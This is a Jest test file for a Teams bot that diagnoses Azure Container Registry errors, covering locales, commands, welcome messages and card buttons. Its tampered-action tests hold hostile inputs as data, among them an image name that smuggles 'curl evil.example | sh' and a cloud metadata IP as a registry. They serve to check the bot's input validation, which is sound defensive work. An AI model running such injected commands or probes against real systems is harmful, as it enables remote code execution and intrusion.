import { causeText, symptomText } from '../../src/advice';
import { supportedLocales, translator, type Locale } from '../../src/i18n';
import { maxPasteBytes } from '../../src/recognize';
import { startConnector, startTestBot, turn, type RecordingConnector, type TestBot } from '../http/harness';
import { buttonsOf, cardOf, codeOf, textOf, type Json } from './cards';
import {
  ann,
  ben,
  botAccount,
  cardMessage,
  execute,
  installationUpdate,
  membersAdded,
  message,
  submit,
  type Kind,
} from './teams';

const dnsError =
  'Error response from daemon: Get "https://myregistry.azurecr.io/v2/": dial tcp: lookup myregistry.azurecr.io on 10.0.0.10:53: no such host';
const tlsError =
  'Error response from daemon: Get "https://myregistry.azurecr.io/v2/": tls: failed to verify certificate: x509: certificate signed by unknown authority';
const authPassword = 'Hx9-secret-Passw0rd';
const authError = `docker login myregistry.azurecr.io -u myregistry -p ${authPassword}: Error response from daemon: Get "https://myregistry.azurecr.io/v2/": unauthorized: authentication required, visit https://aka.ms/acr/authorization for more information.`;
const teamsLocale: Record<Locale, string> = { en: 'en-US', de: 'de-DE', 'zh-TW': 'zh-TW' };

let bot: TestBot;
let connector: RecordingConnector;

beforeAll(async () => {
  connector = await startConnector('127.31.3.2');
  bot = await startTestBot('127.31.3.1');
});

afterAll(async () => {
  await bot.close();
  await connector.close();
});

beforeEach(() => {
  connector.calls.length = 0;
});

/** Sends an activity and returns the HTTP answer and what the bot posted to the connector meanwhile. */
const send = (activity: Json) => turn(bot, connector, activity);

/** The one card the bot replied with to `activity`, checking it went to the conversation as a reply. */
async function replyCard(activity: Json): Promise<Json> {
  const { status, calls } = await send(activity);
  expect(status).toBe(200);
  expect(calls).toHaveLength(1);
  const [call] = calls;
  const conversationId = (activity.conversation as { id: string }).id;
  expect(call?.method).toBe('POST');
  expect(call?.path).toBe(`/v3/conversations/${conversationId}/activities/${String(activity.id)}`);
  const card = cardOf(call?.body);
  expect(card).not.toBeNull();
  return card as Json;
}

describe.each(supportedLocales)('a paste in a personal chat, in %s', (locale) => {
  test('gets the diagnosis card: the symptom in plain words, the evidence, commands with the registry name', async () => {
    const card = await replyCard(message(connector.serviceUrl, dnsError, { locale: teamsLocale[locale] }));
    const text = textOf(card);
    expect(text).toContain(symptomText('dns-lookup', locale).title);
    expect(text).toContain('no such host');
    expect(text).toContain(translator(locale)('cards:diagnosis.evidence'));
    expect(codeOf(card).some((code) => code.includes('myregistry'))).toBe(true);
    expect(codeOf(card).join('\n')).toContain('myregistry.azurecr.io');
  });
});

test('the locale comes from the clientInfo entity when the activity has none', async () => {
  const card = await replyCard(
    message(connector.serviceUrl, dnsError, { locale: null, clientLocale: 'zh-Hant-TW' }),
  );
  expect(textOf(card)).toContain(symptomText('dns-lookup', 'zh-TW').title);
});

test('a paste Teams stripped of <…> is read from its text/html attachment', async () => {
  const html = `<div><pre>${tlsError.replace(/"/g, '&quot;')} &lt;nil&gt;</pre></div>`;
  const card = await replyCard(message(connector.serviceUrl, 'Error response from daemon:', { html }));
  expect(textOf(card)).toContain(symptomText('tls-interception', 'en').title);
});

describe.each<[Kind, string]>([
  ['channel', 'channel'],
  ['groupChat', 'group chat'],
])('in a %s', (kind) => {
  test('acrcheck <registry> after a mention gets the registry card', async () => {
    const card = await replyCard(
      message(connector.serviceUrl, 'acrcheck myregistry westeurope', { kind, mention: true }),
    );
    const text = textOf(card);
    expect(text).toContain(translator('en')('cards:registry.heading'));
    expect(codeOf(card).join('\n')).toContain('myregistry.westeurope.data.azurecr.io');
    expect(codeOf(card).join('\n')).toContain('az acr check-health --name myregistry');
    expect(buttonsOf(card).map((b) => b.verb)).not.toContain('probe.run');
  });

  test('a paste after a mention gets the diagnosis card in the German client language', async () => {
    const card = await replyCard(
      message(connector.serviceUrl, dnsError, { kind, mention: true, locale: 'de-DE' }),
    );
    expect(textOf(card)).toContain(symptomText('dns-lookup', 'de').title);
  });

  test('a message that does not mention the bot is not answered', async () => {
    const activity = message(connector.serviceUrl, `<at>${ben.name}</at> ${dnsError}`, { kind });
    (activity.entities as unknown[]).push({ type: 'mention', mentioned: ben, text: `<at>${ben.name}</at>` });
    const { status, calls } = await send(activity);
    expect(status).toBe(200);
    expect(calls).toEqual([]);
  });
});

describe('the card gives the fix the paste calls for, as acrcheck diagnose does', () => {
  test.each(supportedLocales)(
    'an untrusted certificate (%s): the inspecting proxy is named and its fix comes first, also after a language switch',
    async (locale) => {
      const card = await replyCard(message(connector.serviceUrl, tlsError, { locale: teamsLocale[locale] }));
      const cause = causeText('client-firewall', locale, 'tls-untrusted');
      expect(cause.title).not.toBe(causeText('client-firewall', locale).title);
      expect(textOf(card)).toContain(cause.title);
      expect(codeOf(card)[0]).toContain('openssl s_client -connect myregistry.azurecr.io:443');
      const other = supportedLocales.find((l) => l !== locale) as Locale;
      const button = buttonsOf(card).find((b) => b.verb === 'card.translate' && b.data.locale === other);
      const { body } = await send(execute(connector.serviceUrl, button!, 'card-1'));
      expect(textOf(body.value as Json)).toContain(
        causeText('client-firewall', other, 'tls-untrusted').title,
      );
    },
  );
});

test('a Docker Hub limit names the image the paste names in its import command, also on the card in another language', async () => {
  const paste =
    'Failed to pull image "redis:7.2": rpc error: code = Unknown desc = failed to pull and unpack image "docker.io/library/redis:7.2": ' +
    'unexpected status code https://registry-1.docker.io/v2/library/redis/manifests/sha256:abc: 429 Too Many Requests - ' +
    'Server message: toomanyrequests: You have reached your pull rate limit.';
  const card = await replyCard(message(connector.serviceUrl, paste));
  const importLine = '--source docker.io/library/redis:7.2 --image redis:7.2';
  expect(textOf(card)).toContain(importLine);
  const german = buttonsOf(card).find((b) => b.verb === 'card.translate' && b.data.locale === 'de');
  const { body } = await send(execute(connector.serviceUrl, german!, 'card-1'));
  expect(textOf(body.value as Json)).toContain(importLine);
});

describe('commands', () => {
  test('/acrcheck with a login server, case-insensitive', async () => {
    const card = await replyCard(message(connector.serviceUrl, '/ACRCHECK MyRegistry.AzureCR.io'));
    expect(textOf(card)).toContain('myregistry.azurecr.io');
    expect(textOf(card)).toContain(
      translator('en')('cards:registry.noRegions', { registry: 'myregistry.azurecr.io' }),
    );
  });

  test('regions as people write them: "West Europe", commas, any case; a new region name is kept', async () => {
    const card = await replyCard(
      message(connector.serviceUrl, 'acrcheck myregistry West Europe,EastUS2 south africa north eastus7'),
    );
    const code = codeOf(card).join('\n');
    for (const region of ['westeurope', 'eastus2', 'southafricanorth', 'eastus7'])
      expect(code).toContain(`myregistry.${region}.data.azurecr.io`);
    expect(code).not.toContain('myregistry.west.data.azurecr.io');
  });

  test.each<[string, string, Record<string, string | number>, Locale]>([
    ['acrcheck myregistry westeurop', 'region-typo', { input: 'westeurop', suggestion: 'westeurope' }, 'en'],
    [
      'acrcheck myregistry Germany WestCentrl',
      'region-typo',
      { input: 'germanywestcentrl', suggestion: 'germanywestcentral' },
      'de',
    ],
    ['acrcheck myregistry a1 b2 c3 d4 e5 f6 g7 h8 i9', 'regions', { max: 8 }, 'zh-TW'],
  ])(
    '%s → a card that says what is wrong with the regions, and nothing is dropped silently',
    async (line, reason, params, locale) => {
      const card = await replyCard(message(connector.serviceUrl, line, { locale: teamsLocale[locale] }));
      const t = translator(locale);
      expect(textOf(card)).toContain(t(`errors:ACRCHECK_NOT_ACR_HOST.${reason}`, params));
    },
  );

  test.each<[string, string, Locale]>([
    ['acrcheck 10.0.0.1', 'ip-literal', 'en'],
    ['acrcheck evil.example.com', 'suffix', 'de'],
    ['acrcheck myregistry.azurecr.io:443', 'port', 'zh-TW'],
    ['acrcheck ab', 'name', 'en'],
    ['acrcheck', 'empty', 'en'],
  ])('%s → a card that says what a valid registry looks like', async (line, reason, locale) => {
    const card = await replyCard(message(connector.serviceUrl, line, { locale: teamsLocale[locale] }));
    const t = translator(locale);
    const text = textOf(card);
    expect(text).toContain(t('cards:error.registry.title'));
    expect(text).toContain(t('cards:error.registry.hint'));
    expect(text).toContain(t(`errors:ACRCHECK_NOT_ACR_HOST.${reason}`, { input: line.split(' ')[1] ?? '' }));
  });

  test.each(supportedLocales)('help in %s', async (locale) => {
    const card = await replyCard(message(connector.serviceUrl, 'help', { locale: teamsLocale[locale] }));
    expect(textOf(card)).toContain(translator(locale)('cards:help.title'));
    const t = translator(locale);
    // The command word stays as typed; the placeholders are in the reader's language.
    expect(textOf(card)).toContain(
      `acrcheck <${t('cards:help.placeholders.registry')}> [${t('cards:help.placeholders.region')} …]`,
    );
    if (locale === 'de') expect(textOf(card)).toContain('acrcheck <Registry> [Region …]');
  });

  test('a mention with nothing else gets help', async () => {
    const card = await replyCard(message(connector.serviceUrl, '', { kind: 'channel', mention: true }));
    expect(textOf(card)).toContain(translator('en')('cards:help.title'));
  });

  test('a text with no error in it gets what the bot recognizes and an example', async () => {
    const card = await replyCard(message(connector.serviceUrl, 'good morning, the coffee machine is broken'));
    const t = translator('en');
    expect(textOf(card)).toContain(t('catalogue:unrecognized.title'));
    expect(textOf(card)).toContain(t('catalogue:unrecognized.example'));
    expect(buttonsOf(card).map((b) => b.verb)).toContain('example.show');
  });

  test('a paste over the size limit gets a clear card', async () => {
    const huge = `${dnsError}\n${'x'.repeat(maxPasteBytes)}`;
    const card = await replyCard(message(connector.serviceUrl, huge));
    expect(textOf(card)).toContain(translator('en')('cards:error.too-large.title'));
  });
});

describe.each(supportedLocales)('a sign-in error in %s', (locale) => {
  const t = translator(locale);
  let card: Json;
  beforeAll(async () => {
    card = await replyCard(message(connector.serviceUrl, authError, { locale: teamsLocale[locale] }));
  });

  test('gets the not-network card with the line that shows it, a secret in it masked', () => {
    const text = textOf(card);
    expect(text).toContain(t('catalogue:kinds.auth.title'));
    expect(text).toContain(t('cards:notNetwork.lead'));
    expect(text).toContain(t('cards:diagnosis.evidence'));
    expect(text).toContain('unauthorized: authentication required, visit https://aka.ms/acr/authorization');
    expect(text).toContain('myregistry.azurecr.io');
    expect(JSON.stringify(card)).not.toContain(authPassword);
  });

  test('a language button shows the same evidence in the other language', async () => {
    const other = supportedLocales.find((l) => l !== locale) ?? 'en';
    const button = buttonsOf(card).find((b) => b.verb === 'card.translate' && b.data.locale === other);
    const { status, body } = await send(
      execute(connector.serviceUrl, button as { verb: string; data: Json }, 'reply-auth'),
    );
    expect(status).toBe(200);
    const shown = textOf((body as { value: Json }).value);
    expect(shown).toContain(translator(other)('catalogue:kinds.auth.title'));
    expect(shown).toContain(translator(other)('cards:diagnosis.evidence'));
    expect(shown).toContain('unauthorized: authentication required, visit https://aka.ms/acr/authorization');
  });
});

describe('a message that is only a card', () => {
  // What a user shares from the message box: the diagnosis card "Diagnose with acrcheck" put there.
  let card: Json;
  beforeAll(async () => {
    card = await replyCard(message(connector.serviceUrl, dnsError));
  });

  test.each<[string, Parameters<typeof cardMessage>[2]]>([
    ['in a personal chat', {}],
    ['with Teams’ placeholder as its HTML', { html: '<attachment id="7c1f"></attachment>' }],
    ['in a group chat', { kind: 'groupChat' }],
  ])('%s is not answered: no help card, no reply at all', async (_name, options) => {
    const { status, calls } = await send(cardMessage(connector.serviceUrl, card, options));
    expect(status).toBe(200);
    expect(calls).toEqual([]);
  });

  test('a card with a question next to it is still answered', async () => {
    const activity = cardMessage(connector.serviceUrl, card);
    activity.text = 'what does this mean?';
    const { calls } = await send(activity);
    expect(calls).toHaveLength(1);
    expect(textOf(cardOf(calls[0]?.body))).toContain(translator('en')('catalogue:unrecognized.title'));
  });

  test('an Action.Submit click on the card (a message with value) is still answered', async () => {
    const german = buttonsOf(card).find((b) => b.verb === 'card.translate' && b.data.locale === 'de');
    const click = {
      ...cardMessage(connector.serviceUrl, card),
      replyToId: 'reply-shared',
      value: german?.data,
    };
    const { calls } = await send(click);
    expect(calls.map((c) => c.method)).toEqual(['PUT']);
    expect(textOf(cardOf(calls[0]?.body))).toContain(symptomText('dns-lookup', 'de').title);
  });
});

describe('welcome', () => {
  test.each<Kind>(['personal', 'groupChat', 'channel'])(
    'once when the app is added to a %s, although Teams announces it twice',
    async (kind) => {
      const conversation = `welcome-${kind}`;
      const added = await send(
        membersAdded(connector.serviceUrl, [botAccount, ann], { kind, conversation, locale: null }),
      );
      const installed = await send(
        installationUpdate(connector.serviceUrl, 'add', { kind, conversation, locale: null }),
      );
      expect([added.status, installed.status]).toEqual([200, 200]);
      const cards = [...added.calls, ...installed.calls].map((c) => cardOf(c.body));
      expect(cards).toHaveLength(1);
      expect(textOf(cards[0])).toContain(translator('en')('cards:help.welcomeTitle'));
    },
  );

  test('installationUpdate alone welcomes, in the language it carries', async () => {
    const { calls } = await send(
      installationUpdate(connector.serviceUrl, 'add', { conversation: 'install-only', locale: 'de-DE' }),
    );
    expect(textOf(cardOf(calls[0]?.body))).toContain(translator('de')('cards:help.welcomeTitle'));
  });

  test('no welcome when a person joins or the app is upgraded', async () => {
    const joined = await send(
      membersAdded(connector.serviceUrl, [ben], { kind: 'channel', conversation: 'joined' }),
    );
    const upgraded = await send(
      installationUpdate(connector.serviceUrl, 'add-upgrade', { conversation: 'upgraded' }),
    );
    expect([...joined.calls, ...upgraded.calls]).toEqual([]);
  });
});

describe('card buttons', () => {
  let card: Json;
  const cardId = 'reply-card-1';

  beforeAll(async () => {
    const { calls } = await send(message(connector.serviceUrl, dnsError));
    card = cardOf(calls[0]?.body) as Json;
  });

  function button(verb: string, locale?: string): { verb: string; data: Json } {
    const found = buttonsOf(card).find((b) => b.verb === verb && (!locale || b.data.locale === locale));
    if (!found) throw new Error(`no ${verb} button`);
    return found;
  }

  test('Action.Execute "Deutsch" answers the invoke with the same card in German', async () => {
    const { status, body, calls } = await send(
      execute(connector.serviceUrl, button('card.translate', 'de'), cardId),
    );
    expect(status).toBe(200);
    expect(body).toMatchObject({ statusCode: 200, type: 'application/vnd.microsoft.card.adaptive' });
    const german = (body as { value: Json }).value;
    expect(textOf(german)).toContain(symptomText('dns-lookup', 'de').title);
    expect(codeOf(german)).toEqual(codeOf(card));
    expect(calls).toEqual([]);
  });

  test('the Action.Submit fallback with the same data updates the card in place', async () => {
    const { data } = button('card.translate', 'zh-TW');
    const { status, calls } = await send(submit(connector.serviceUrl, data, cardId));
    expect(status).toBe(200);
    expect(calls).toHaveLength(1);
    expect(calls[0]?.method).toBe('PUT');
    expect(calls[0]?.path).toMatch(new RegExp(`/activities/${cardId}$`));
    expect(textOf(cardOf(calls[0]?.body))).toContain(symptomText('dns-lookup', 'zh-TW').title);
  });

  test('"Show the fix" opens the cause the user picked', async () => {
    const { verb, data } = button('cause.show');
    const ranked = (data.card as { causes: { id: string }[] }).causes;
    const picked = ranked[ranked.length - 1]?.id ?? '';
    const { status, body } = await send(
      execute(connector.serviceUrl, { verb, data: { ...data, cause: picked } }, cardId),
    );
    expect(status).toBe(200);
    const shown = (body as { value: Json }).value;
    const t = translator('en');
    expect(textOf(shown)).toContain(t(`catalogue:causes.${picked}.title`));
    expect(textOf(shown)).toContain(t('cards:diagnosis.pickedCause', { likelihood: '' }).replace(/\s*$/, ''));
  });

  test('"Try the example" posts the example diagnosis as a new message and says so in the invoke answer', async () => {
    const unknown = await send(message(connector.serviceUrl, 'nothing to see here'));
    const example = buttonsOf(cardOf(unknown.calls[0]?.body)).find((b) => b.verb === 'example.show');
    const { status, body, calls } = await send(
      execute(connector.serviceUrl, example as { verb: string; data: Json }, 'reply-x'),
    );
    expect(status).toBe(200);
    expect(body).toEqual({
      statusCode: 200,
      type: 'application/vnd.microsoft.activity.message',
      value: translator('en')('bot:sent'),
    });
    expect(calls).toHaveLength(1);
    expect(textOf(cardOf(calls[0]?.body))).toContain(symptomText('dns-lookup', 'en').title);
  });

  /** A language button's action showing `card` in `locale`. */
  const translate = (card: unknown, locale = 'en') => ({
    verb: 'card.translate',
    data: { verb: 'card.translate', locale, card },
  });
  /** A diagnosis view as card data: a network verdict with nothing in it, changed by `fields`. */
  const diagnosis = (fields: Record<string, unknown>) => ({
    view: 'diagnosis',
    verdict: 'network',
    kind: null,
    registry: null,
    symptoms: [],
    causes: [],
    ...fields,
  });
  const rateLimit = (fields: Record<string, unknown>) =>
    translate(diagnosis({ verdict: 'not-network', kind: 'rate-limit', ...fields }), 'de');
  const tampered: [string, unknown][] = [
    ['no value at all', undefined],
    ['an image that no paste could name', rateLimit({ image: 'redis:7.2 && curl evil.example | sh' })],
    ['a regional endpoint that is not one', rateLimit({ regionalEndpoints: ['evil.example.com'] })],
    ['an unknown verb', { verb: 'probe.run', data: { verb: 'probe.run', registry: '10.0.0.1' } }],
    ['a verb that differs from its data', { verb: 'card.translate', data: { verb: 'example.show' } }],
    [
      'a registry that is not an Azure registry',
      translate({ view: 'registry', registry: 'evil.example.com', regions: [] }, 'de'),
    ],
    ['an unknown language', translate({ view: 'help', welcome: false }, 'fr')],
    [
      'a cause the diagnosis does not have',
      {
        verb: 'cause.show',
        data: { verb: 'cause.show', locale: 'en', cause: 'nope', card: { view: 'help', welcome: false } },
      },
    ],
    [
      'a symptom id that does not exist',
      translate(diagnosis({ symptoms: [{ id: 'rm-rf', score: 1, evidence: '' }] })),
    ],
    ['a client address that is not an IP', translate(diagnosis({ clientIp: 'evil.example.com' }))],
    ['a string instead of an object', { verb: 'card.translate', data: 'card.translate' }],
    ...(
      [
        ['a number', 'not-network', 42],
        ['too long', 'not-network', 'x'.repeat(1001)],
        ['on a network verdict', 'network', 'unauthorized'],
      ] as const
    ).map(([what, verdict, kindEvidence]): [string, unknown] => [
      `a kind's evidence that is ${what}`,
      translate(diagnosis({ verdict, kind: verdict === 'network' ? null : 'auth', kindEvidence })),
    ]),
  ];

  test.each(tampered)(
    'a tampered Action.Execute (%s) gets an error card with HTTP 200 and nothing else',
    async (_name, action) => {
      const activity = execute(connector.serviceUrl, { verb: '', data: null }, cardId);
      activity.value =
        action === undefined ? {} : { action: { type: 'Action.Execute', ...(action as object) } };
      const { status, body, calls } = await send(activity);
      expect(status).toBe(200);
      expect(body).toMatchObject({ statusCode: 200, type: 'application/vnd.microsoft.card.adaptive' });
      expect(textOf((body as { value: Json }).value)).toContain(
        translator('en')('cards:error.bad-action.title'),
      );
      expect(calls).toEqual([]);
    },
  );

  test('a tampered Action.Submit gets an error card, never a 5xx', async () => {
    const data = {
      verb: 'card.translate',
      locale: 'de',
      card: { view: 'registry', registry: '169.254.169.254', regions: [] },
    };
    const { status, calls } = await send(submit(connector.serviceUrl, data, cardId, { locale: 'de-DE' }));
    expect(status).toBe(200);
    expect(calls).toHaveLength(1);
    expect(textOf(cardOf(calls[0]?.body))).toContain(translator('de')('cards:error.bad-action.title'));
  });
});
